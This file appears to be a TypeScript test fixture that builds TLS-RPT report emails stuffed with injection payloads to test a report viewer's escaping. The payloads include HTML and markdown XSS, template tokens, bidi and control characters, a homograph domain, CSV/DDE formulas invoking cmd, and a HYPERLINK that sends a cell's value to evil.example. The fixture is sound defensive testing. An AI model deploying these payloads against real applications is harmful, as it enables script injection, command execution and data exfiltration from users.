/** What strangers write to do harm where it is shown: as HTML, links, templates, terminals' and spreadsheets' commands. */
export const PAYLOADS = {
  script: '<script class="pwned">window.pwned="script"</script>',
  image: '<img src=x class="pwned" onerror="window.pwned=\'image\'">',
  frame: '"><iframe class="pwned" srcdoc="<script>parent.pwned=1</script>"></iframe>',
  address: 'javascript:window.pwned="address"',
  markdown: '[click](javascript:window.pwned="markdown") ![x](x" onerror="window.pwned=1)',
  template: '${__user.login} $reporter ${reporter} [[reporter]] ${__data.fields.reportId} {{ $labels.reporter }} {{.}}',
  bidi: 'safe\u202egnp.exe\u2066hidden\u2069\u200f',
  control: 'nul\u0000bell\u0007ansi\u001b[31mred\u001b]0;title\u0007c1\u009b',
  invisible: 'zero\u200bwidth\u200d\ufeff\u00ad\u2060joined',
  equals: '=HYPERLINK("https://evil.example/"&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  prototype: '__proto__',
  long: 'long '.repeat(20_000),
} as const;

/** Domains that are shown with their own letters, or for good reason are not. */
export const DOMAINS = {
  shown: { name: 'bücher.example', aLabel: 'xn--bcher-kva.example' },
  confusable: { name: 'аррӏе.example', aLabel: 'xn--80ak6aa92e.example' },
} as const;

/** Mails with a report each, that says the payload wherever a reporter can write. */
export function hostileMails(): string[] {
  const mails = Object.entries(PAYLOADS).map(([kind, payload]) => mail(kind, report(kind, payload, 'hostile.example')));
  const domains = Object.entries(DOMAINS).map(([kind, { name }]) => mail(kind, report(kind, kind, name)));
  const refused = ['script', 'image', 'control', 'equals'] as const;
  const unusable = refused.map((kind) => mail(`domain-${kind}`, report(kind, PAYLOADS[kind], PAYLOADS[kind])));
  return [...mails, ...domains, ...unusable];
}

function report(kind: string, payload: string, domain: string): string {
  const day = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
  return JSON.stringify({
    'organization-name': payload,
    'date-range': { 'start-datetime': `${day}T00:00:00Z`, 'end-datetime': `${day}T23:59:59Z` },
    'contact-info': payload,
    'report-id': `${payload} ${kind}`,
    policies: [
      {
        policy: { 'policy-type': payload, 'policy-string': [payload], 'policy-domain': domain, 'mx-host': [payload] },
        summary: { 'total-successful-session-count': 3, 'total-failure-session-count': 2 },
        'failure-details': [
          {
            'result-type': payload,
            'sending-mta-ip': '192.0.2.1',
            'receiving-mx-hostname': payload,
            'receiving-mx-helo': payload,
            'receiving-ip': payload,
            'failed-session-count': 2,
            'additional-information': payload,
            'failure-reason-code': payload,
          },
        ],
      },
    ],
  });
}

function mail(kind: string, json: string): string {
  const name = encodeURIComponent(`sender.example!<img src=x onerror=window.pwned=1>!1!2!${kind}.json`);
  const body = Buffer.from(json).toString('base64').replace(/.{76}/g, '$&\r\n');
  return [
    'From: "<b class=pwned>reports</b>" <tls@sender.example>',
    'To: tlsrpt@hostile.example',
    `Date: ${new Date().toUTCString()}`,
    `Message-ID: <${kind}.${Date.now()}@sender.example>`,
    'Subject: Report Domain: <script>window.pwned=1</script>',
    'TLS-Report-Domain: hostile.example',
    'TLS-Report-Submitter: sender.example',
    'MIME-Version: 1.0',
    'Content-Type: application/tlsrpt+json',
    `Content-Disposition: attachment; filename*=utf-8''${name}`,
    'Content-Transfer-Encoding: base64',
    '',
    body,
    '',
  ].join('\r\n');
}
